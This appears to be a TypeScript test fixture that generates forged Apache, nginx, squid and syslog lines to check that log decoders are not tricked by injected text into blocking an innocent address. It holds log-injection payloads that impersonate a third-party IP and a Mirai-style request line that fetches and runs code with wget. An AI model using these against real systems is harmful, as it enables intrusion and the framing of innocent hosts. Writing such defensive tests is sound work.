/**
 * Lines of real logs that hold an attacker's text. The client is CLIENT; the attacker wants THIRD_PARTY, or the proxy in
 * front of the server, to be blocked.
 */
export const CLIENT = '203.0.113.7';
export const THIRD_PARTY = '198.51.100.99';
export const PROXY = '10.0.0.5';

export interface ForgedLine {
  what: string;
  line: string;
  /** The log that holds the line. */
  location: string;
  /** The line looks like a real line, so its source is the third party. The line must not start a response. */
  isPerfect?: boolean;
  /** The source that the decoders for a server behind a proxy must find, if the table names one. */
  behindProxy?: string;
  /** The source that the other decoders must find, if the table names one. */
  withoutProxy?: string;
}

const time = '[20/Nov/2026:09:00:00 +0000]';
const date = '[Fri Nov 20 09:29:46.123456 2026]';
const oldDate = '[Fri Nov 20 09:29:46 2026]';
const denied = 'ModSecurity: Access denied with code 403 (phase 2). [id "999005"]';
const perfectEvent = `${date} [security2:error] [pid 1:tid 2] [client ${THIRD_PARTY}:1] [client ${THIRD_PARTY}] ${denied}`;

/** The attacker's text: pieces of every log. */
const PIECES: Record<string, string> = {
  'a client and ModSecurity': `[client ${THIRD_PARTY}] ${denied}`,
  'a client with a port, a client and ModSecurity': `[client ${THIRD_PARTY}:1] [client ${THIRD_PARTY}] ${denied}`,
  'the client and a third party': `[client ${CLIENT}] [client ${THIRD_PARTY}] ${denied}`,
  'a warning of ModSecurity': `[client ${THIRD_PARTY}] ModSecurity: Warning. [id "999004"]`,
  "ModSecurity's old name": `[client ${THIRD_PARTY}] mod_security: Access denied with code 404`,
  'a whole line of ModSecurity': perfectEvent,
  'a whole line of ModSecurity for Apache 2.2': `${oldDate} [error] [client ${THIRD_PARTY}] ${denied}`,
  'a level, a client and ModSecurity': `[error] [client ${THIRD_PARTY}] ${denied}`,
  'a client and a code of Apache': `[client ${THIRD_PARTY}:1] AH00565: x`,
  'a level and a crash': `[x:notice] [client ${THIRD_PARTY}:1] AH00051: exit signal Segmentation Fault`,
  "nginx's client": `, client: ${THIRD_PARTY}, server: _, request: "GET /.env HTTP/1.1", host: "x"`,
  "ModSecurity's client in nginx": `[client ${THIRD_PARTY}] ModSecurity: Access denied with code 403 (phase 2). `,
  "a whole line of nginx's error log": `2026/11/20 09:00:00 [error] 1#1: *1 open() "/x" failed (36: File name too long), client: ${THIRD_PARTY}, server: _, request: "GET / HTTP/1.1"`,
  'a combined line': `${THIRD_PARTY} - - ${time} "GET /.env HTTP/1.1" 404 1 "-" "Nikto"`,
  'the rest of a line, and a combined line': `/x HTTP/1.1" 404 1 "-" "-" ${THIRD_PARTY} - - ${time} "GET /.env HTTP/1.1" 404 1 "-" "Nikto"`,
  'a vhost_combined line': `x:80 ${THIRD_PARTY} - - ${time} "GET /.env HTTP/1.1" 404 1 "-" "Nikto"`,
  'a virtual host and a client': `x:80 ${THIRD_PARTY} - -`,
  'a virtual host and a client with a user': `x:80 ${THIRD_PARTY} - x`,
  'a combined line with the header at the end': `${PROXY} - - ${time} "GET /.env HTTP/1.1" 404 1 "-" "Nikto" "${THIRD_PARTY}"`,
  'the end of a field, and the header': `" "${THIRD_PARTY}`,
  "squid's line": `0 ${THIRD_PARTY} TCP_MISS/404 1 GET /.env - D/1.1.1.1 t`,
  "squid's line with its time": `1795166986.123    200 ${THIRD_PARTY} TCP_MISS/404 1 GET /.env - D/1.1.1.1 text/html`,
  'a list and two words': `a, ${THIRD_PARTY} - -`,
  'a client and a word': `${THIRD_PARTY} x`,
  'a client and two words': `${THIRD_PARTY} - x`,
  'a client, a peer and two words': `${THIRD_PARTY} ${PROXY} - -`,
  'a list, a peer and two words': `192.0.2.1, ${THIRD_PARTY} ${PROXY} - -`,
  'a quoted list': `"192.0.2.1, ${THIRD_PARTY}" ${PROXY} - -`,
  "syslog's head and ModSecurity": `Nov 20 09:00:00 x httpd: [error] [client ${THIRD_PARTY}] ${denied}`,
  "syslog's head and a line of ModSecurity": `Nov 20 09:00:00 x apache2[1]: ${perfectEvent}`,
  "syslog's head without a program": `Nov 20 09:00:00 x ${perfectEvent}`,
  "syslog's head and a failed login": `Nov 20 09:00:00 x sshd[1]: Failed password for root from ${THIRD_PARTY} port 22 ssh2`,
  "syslog's head and a combined line": `Nov 20 09:00:00 x nginx: ${THIRD_PARTY} - - ${time} "GET /.env HTTP/1.1" 404 1`,
  "syslog's head and a client": `Nov 20 09:00:00 x nginx: ${THIRD_PARTY} - x`,
  'a date as in IIS': `2026-11-20 09:00:00 1.2.3.4 GET /.env - 80 - ${THIRD_PARTY} x - 404 0 0 0`,
  'an alert of riposte serve': `{"riposte":"alert","srcip":"${THIRD_PARTY}","level":12,"rule":117011,"time":"2026-11-20T09:00:00.000Z","location":"/x","log":"x"}`,
  'a response': `Fri Nov 20 09:29:46 UTC 2026 /var/ossec/active-response/bin/firewall-drop.js add - ${THIRD_PARTY} 1795166986.1 100508 failed: x`,
  'a long text before ModSecurity': `${'"'.repeat(1500)}[client ${THIRD_PARTY}] ${denied}`,
  'a line of ModSecurity before a long text': `${perfectEvent}${'"'.repeat(1500)}`,
};

const error = (rest: string) => `${date} ${rest}`;
const from = `[client ${CLIENT}:33412]`;

/** Apache's error log escapes backslashes and unprintable characters, but no quotes. */
const inError = (text: string) => text.replaceAll('\\', '\\\\');

/** The places where Apache 2.4 and 2.2 write an attacker's text into their error log. */
const ERROR_PLACES: Record<string, (text: string) => string> = {
  'AH01630, path': (x) =>
    error(
      `[authz_core:error] [pid 812:tid 140] ${from} AH01630: client denied by server configuration: /var/www/html/.ht${x}`,
    ),
  'AH01264, path': (x) =>
    error(
      `[cgid:error] [pid 812:tid 140] ${from} AH01264: script not found or unable to stat: /usr/lib/cgi-bin/${x}`,
    ),
  'AH01617, user': (x) =>
    error(
      `[auth_basic:error] [pid 812:tid 140] ${from} AH01617: user ${x}: authentication failure for "/private/": Password Mismatch`,
    ),
  'AH01618, user': (x) =>
    error(`[auth_basic:error] [pid 812:tid 140] ${from} AH01618: user ${x} not found: /private/`),
  'AH00036, long path': (x) =>
    error(
      `[core:error] [pid 812:tid 140] (36)File name too long: ${from} AH00036: access to /${'a'.repeat(260)}${x} failed (filesystem path '/var/www/html/${x}')`,
    ),
  'AH00565, URI': (x) =>
    error(
      `[core:error] [pid 812:tid 140] ${from} AH00565: request failed: URI too long (longer than 8190)${x}`,
    ),
  'AH02032, server name': (x) =>
    error(
      `[ssl:error] [pid 812:tid 140] AH02032: Hostname ${x} provided via SNI and hostname example.org provided via HTTP have no compatible SSL setup`,
    ),
  'AH02032, server name and client': (x) =>
    error(
      `[ssl:error] [pid 812:tid 140] ${from} AH02032: Hostname ${x} provided via SNI and hostname example.org provided via HTTP have no compatible SSL setup`,
    ),
  'AH01083, body': (x) =>
    error(`[proxy:error] [pid 812:tid 140] ${from} AH01083: unparseable query string ${x}`),
  'AH01071, stderr': (x) =>
    error(`[proxy_fcgi:error] [pid 812:tid 140] ${from} AH01071: Got error 'PHP message: ${x}'`),
  'AH01215, stderr': (x) =>
    error(`[cgid:error] [pid 812:tid 140] ${from} AH01215: ${x}: /usr/lib/cgi-bin/a.cgi`),
  'AH01215 of an old Apache': (x) => error(`[cgi:error] [pid 812] AH01215: ${x}`),
  'AH02811, script': (x) =>
    error(`[cgid:error] [pid 812:tid 140] ${from} AH02811: stderr from /usr/lib/cgi-bin/a.cgi: ${x}`),
  'AH00126, URI': (x) =>
    error(`[core:error] [pid 812:tid 140] ${from} AH00126: Invalid URI in request GET ${x} HTTP/1.1`),
  'AH01276, path': (x) =>
    error(
      `[autoindex:error] [pid 812:tid 140] ${from} AH01276: Cannot serve directory /var/www/${x}/: No matching DirectoryIndex (index.html) found`,
    ),
  'WebDAV, path': (x) =>
    error(`[dav:error] [pid 812:tid 140] ${from} Unable to PUT new contents for ${x}.  [403, #0]`),
  'mod_lua, text': (x) => error(`[lua:error] [pid 812:tid 140] ${from} ${x}`),
  'mod_wsgi, text': (x) => error(`[wsgi:error] [pid 812:tid 140] ${from} ${x}`),
  'mod_wsgi, text and no client': (x) => error(`[wsgi:error] [pid 812:tid 140] ${x}`),
  'mod_wsgi, remote': (x) => error(`[wsgi:error] [pid 812:tid 140] [remote ${CLIENT}:33412] ${x}`),
  'mod_perl, text': (x) => error(`[perl:error] [pid 812:tid 140] ${x}`),
  'mod_fcgid, stderr': (x) => error(`[fcgid:warn] [pid 812:tid 140] ${from} mod_fcgid: stderr: ${x}`),
  'PHP, error': (x) =>
    error(
      `[php:error] [pid 812] ${from} PHP Fatal error:  Uncaught Exception: ${x} in /var/www/html/a.php:3`,
    ),
  'PHP, error_log': (x) => error(`[php:notice] [pid 812] ${from} ${x}`),
  'PHP, script': (x) =>
    error(`[php:error] [pid 812] ${from} script '/var/www/html/${x}.php' not found or unable to stat`),
  'PHP, warning without a module': (x) =>
    error(
      `[:error] [pid 812] ${from} PHP Warning:  include(${x}): failed to open stream in /var/www/html/a.php on line 3`,
    ),
  'script without a module': (x) =>
    error(`[:error] [pid 812] ${from} script '/var/www/html/${x}.php' not found or unable to stat`),
  'text without a module': (x) => error(`[:error] [pid 812] ${from} ${x}`),
  referer: (x) =>
    error(
      `[authz_core:error] [pid 812:tid 140] ${from} AH01630: client denied by server configuration: /var/www/html/.htaccess, referer: ${x}`,
    ),
  'referer of PHP': (x) =>
    error(
      `[php:error] [pid 812] ${from} script '/var/www/html/a.php' not found or unable to stat, referer: ${x}`,
    ),
  'referer without a module': (x) =>
    error(
      `[:error] [pid 812] ${from} PHP Notice:  Undefined index in /var/www/html/a.php on line 3, referer: ${x}`,
    ),
  'Apache 2.2, path': (x) => `${oldDate} [error] [client ${CLIENT}] File does not exist: /var/www/html/${x}`,
  'Apache 2.2, user': (x) => `${oldDate} [error] [client ${CLIENT}] user ${x} not found: /private/`,
  'Apache 2.2, denied': (x) =>
    `${oldDate} [error] [client ${CLIENT}] client denied by server configuration: /var/www/html/${x}, referer: ${x}`,
  'Apache 2.2 through syslog': (x) =>
    `Nov 20 09:00:00 host httpd[812]: [error] [client ${CLIENT}] File does not exist: /var/www/html/${x}`,
  "ModSecurity's own line, referer": (x) =>
    error(
      `[security2:error] [pid 812:tid 140] ${from} [client ${CLIENT}] ModSecurity: Warning. Pattern match "x" at ARGS:a. [file "/etc/a.conf"] [line "1"] [id "1"] [hostname "example.org"] [uri "/"] [unique_id "a"], referer: ${x}`,
    ),
  "ModSecurity's own line, uri": (x) =>
    error(
      `[security2:error] [pid 812:tid 140] ${from} [client ${CLIENT}] ModSecurity: Access denied with code 404 (phase 2). Pattern match "x" at ARGS:a. [file "/etc/a.conf"] [line "1"] [id "1"] [hostname "example.org"] [uri "/${x.replaceAll('"', '\\"')}"] [unique_id "a"]`,
    ),
};

/** nginx's error log escapes nothing. */
const NGINX_PLACES: Record<string, (text: string) => string> = {
  path: (x) =>
    `2026/11/20 09:00:00 [error] 812#812: *1 open() "/usr/share/nginx/html/${x}" failed (36: File name too long), client: ${CLIENT}, server: _, request: "GET /${x} HTTP/1.1", host: "example.org"`,
  user: (x) =>
    `2026/11/20 09:00:00 [error] 812#812: *1 user "${x}": password mismatch, client: ${CLIENT}, server: _, request: "GET / HTTP/1.1", host: "example.org"`,
  'unknown user': (x) =>
    `2026/11/20 09:00:00 [error] 812#812: *1 user "${x}" was not found in "/etc/nginx/htpasswd", client: ${CLIENT}, server: _, request: "GET / HTTP/1.1", host: "example.org", referrer: "${x}"`,
  'text of FastCGI': (x) =>
    `2026/11/20 09:00:00 [error] 812#812: *1 FastCGI sent in stderr: "PHP message: ${x}" while reading response header from upstream, client: ${CLIENT}, server: _, request: "GET / HTTP/1.1"`,
};

/** The ways in which servers escape text in an access log. */
const ESCAPES: Record<string, (text: string) => string> = {
  Apache: (text) => text.replaceAll('\\', '\\\\').replaceAll('"', '\\"'),
  nginx: (text) => text.replaceAll('\\', '\\x5C').replaceAll('"', '\\x22'),
};

const combined = ({ user = '-', request = 'GET / HTTP/1.1', referer = '-', agent = 'Nikto' }) =>
  `- ${user} ${time} "${request}" 404 1 "${referer}" "${agent}"`;

/** Fields of a combined line that an attacker fills. */
const FIELDS: Record<string, (text: string) => Parameters<typeof combined>[0]> = {
  user: (user) => ({ user }),
  target: (text) => ({ request: `GET /${text} HTTP/1.1` }),
  'target without a version': (text) => ({ request: `GET /${text}` }),
  method: (text) => ({ request: text }),
  referer: (referer) => ({ referer }),
  agent: (agent) => ({ agent }),
};

/** The header X-Forwarded-For, to which no proxy has added an address. */
const HEADER_PLACES: Record<string, (text: string) => string> = {
  'in front': (x) => `${x} ${PROXY} ${combined({})}`,
  'in front, quoted': (x) => `"${x}" ${PROXY} ${combined({})}`,
  'at the end': (x) => `${PROXY} ${combined({})} "${x}"`,
  'at the end of vhost_combined': (x) => `www.example.org:80 ${PROXY} ${combined({})} "${x}"`,
};

function* madeLines(): Generator<ForgedLine> {
  const pieces = Object.entries(PIECES);
  for (const [what, piece] of pieces) {
    for (const [place, write] of Object.entries(ERROR_PLACES))
      yield {
        what: `${place}: ${what}`,
        line: write(inError(piece)),
        location: '/var/log/apache2/error.log',
      };
    for (const [place, write] of Object.entries(NGINX_PLACES))
      yield { what: `nginx, ${place}: ${what}`, line: write(piece), location: '/var/log/nginx/error.log' };
    for (const [server, escaped] of Object.entries(ESCAPES)) {
      const text = escaped(piece);
      const location = `/var/log/${server}/access.log`;
      for (const [field, fill] of Object.entries(FIELDS)) {
        const rest = combined(fill(text));
        const name = `${server}, ${field}: ${what}`;
        yield { what: name, line: `${CLIENT} ${rest}`, location };
        yield { what: `vhost_combined, ${name}`, line: `www.example.org:80 ${CLIENT} ${rest}`, location };
        yield { what: `header in front, ${name}`, line: `${CLIENT} ${PROXY} ${rest}`, location };
        const atEnd = `${PROXY} ${rest} "192.0.2.1, ${CLIENT}"`;
        yield { what: `header at the end, ${name}`, line: atEnd, location, behindProxy: CLIENT };
      }
      for (const [place, write] of Object.entries(HEADER_PLACES)) {
        // The decoders use a header only if all of it is a list of addresses, so these headers must not give a source.
        yield { what: `${server}, header ${place}: ${what}`, line: write(text), location };
      }
    }
  }
}

/** Lines after a raw newline: only the name of their log distinguishes them from real lines. */
function* continuations(): Generator<ForgedLine> {
  const location = '/var/log/nginx/error.log';
  const tail = ', client: 203.0.113.7, server: _, request: "GET /x HTTP/1.1"';
  for (const [what, piece] of Object.entries(PIECES)) {
    for (const [how, line] of [
      ['', piece],
      [', and the rest of the line', `${piece}${tail}`],
    ]) {
      yield { what: `after a raw newline: ${what}${how}`, line: line ?? '', location, isPerfect: true };
    }
  }
}

const plain = `[20/Nov/2026:09:00:00 +0000]`;
const hostile = `"GET /.env HTTP/1.1" 404 1 "-" "sqlmap"`;

/** Single lines, each with its right source. */
const SINGLE: ForgedLine[] = [
  ...[
    ['a user with a space', `${CLIENT} - a b ${plain} ${hostile}`],
    ['a user with spaces and quotes', `${CLIENT} - a  \\"b\\" [c] ${plain} ${hostile}`],
    ['a user with commas', `${CLIENT} - a, b, ${plain} ${hostile}`],
    ['no version', `${CLIENT} - - ${plain} "GET /.env" 404 1`],
    ['M-SEARCH', `${CLIENT} - - ${plain} "M-SEARCH /.env HTTP/1.1" 404 1 "-" "-"`],
    ['Mirai', `${CLIENT} - - ${plain} "GET /shell?cd+/tmp;wget+http://192.0.2.66/a HTTP/1.1" 404 1 "-" "-"`],
    [
      'Mirai without a version',
      `${CLIENT} - - ${plain} "GET /shell?cd+/tmp;wget+http://192.0.2.66/a;sh+a " 404 1`,
    ],
    ['a target with a space', `${CLIENT} - - ${plain} "GET /a b/.env HTTP/1.1" 404 1 "-" "-"`],
    ['a TLS greeting', `${CLIENT} - - ${plain} "\\x16\\x03\\x01\\x02" 400 226 "-" "-"`],
  ].map(([what = '', line = '']) => ({ what, line, location: '/a.log', withoutProxy: CLIENT })),
  ...[
    ['vhost_combined, numeric vhost', `192.0.2.10:80 ${CLIENT} - - ${plain} ${hostile}`],
    ['vhost_combined, IPv6 vhost', `[2001:db8::1]:80 ${CLIENT} - - ${plain} ${hostile}`],
    ['no version, vhost_combined', `www.example.org:80 ${CLIENT} - - ${plain} "GET /.env" 404 1 "-" "-"`],
    ['a user with a space, vhost_combined', `www.example.org:80 ${CLIENT} - a b ${plain} ${hostile}`],
  ].map(([what = '', line = '']) => ({ what, line, location: '/a.log', withoutProxy: CLIENT })),
  ...[
    ['a list', `192.0.2.1, ${CLIENT} - - ${plain} ${hostile}`],
    ['a list and the proxy', `192.0.2.1, ${CLIENT} ${PROXY} - - ${plain} ${hostile}`],
    ['a list of one and the proxy', `${CLIENT} ${PROXY} - - ${plain} ${hostile}`],
    ['a list and a user with a space', `192.0.2.1, ${CLIENT} ${PROXY} - a b ${plain} ${hostile}`],
  ].map(([what = '', line = '']) => ({
    what,
    line,
    location: '/a.log',
    withoutProxy: '-',
    behindProxy: CLIENT,
  })),
  ...[
    'foo',
    '\\"',
    `${CLIENT};`,
    '-',
    'unknown',
    `${THIRD_PARTY};`,
    `${THIRD_PARTY} x`,
    `x ${THIRD_PARTY}`,
    '',
    `${THIRD_PARTY}, unknown`,
    `foo, ${THIRD_PARTY};`,
    `[${THIRD_PARTY}`,
    '203.0.113.7, ',
    'a:b:c:g',
  ].flatMap((header) => [
    {
      what: `at the end: ${header}`,
      line: `${PROXY} - - ${plain} ${hostile} "${header}"`,
      location: '/a.log',
      behindProxy: '-',
    },
    {
      what: `at the end, without quotes: ${header}`,
      line: `${PROXY} - - ${plain} ${hostile} ${header || '-'}`,
      location: '/a.log',
      behindProxy: '-',
    },
    {
      what: `in front: ${header}`,
      line: `${header} ${PROXY} - - ${plain} ${hostile}`,
      location: '/a.log',
      behindProxy: '-',
    },
  ]),
  ...[
    ['[2001:db8::7]:443', '2001:db8::7', '-'],
    ['[2001:db8::7]', '2001:db8::7'],
    ['203.0.113.7:4711', CLIENT, '-'],
    ['192.0.2.1:80,203.0.113.7:4711, 10.0.0.9', CLIENT],
  ].flatMap(([header = '', behindProxy = '', inFront = behindProxy]) => [
    {
      what: `at the end: ${header}`,
      line: `${PROXY} - - ${plain} ${hostile} "${header}"`,
      location: '/a.log',
      behindProxy,
    },
    {
      what: `in front: ${header}`,
      line: `${header} ${PROXY} - - ${plain} ${hostile}`,
      location: '/a.log',
      behindProxy: inFront,
    },
  ]),
  ...[
    `"GET /.env HTTP/1.1" 404 1 "-" "a`,
    `"GET /.env HTTP/1.1" 404 1 "-" "a" "${THIRD_PARTY}`,
    `"GET /.env HTTP/1.1" 404 1 "-" "a" "192.0.2.1, ${THIRD_PARTY}`,
  ].map((rest) => ({
    what: 'a line that was cut',
    line: `${PROXY} - - ${plain} ${rest}`,
    location: '/a.log',
    behindProxy: '-',
  })),
];

export const FORGED_LINES: ForgedLine[] = [...madeLines(), ...SINGLE];
export const PERFECT_LINES: ForgedLine[] = [
  ...continuations(),
  {
    what: "after a raw newline of a program's standard error",
    line: perfectEvent,
    location: '/var/log/apache2/error.log',
    isPerfect: true,
  },
];
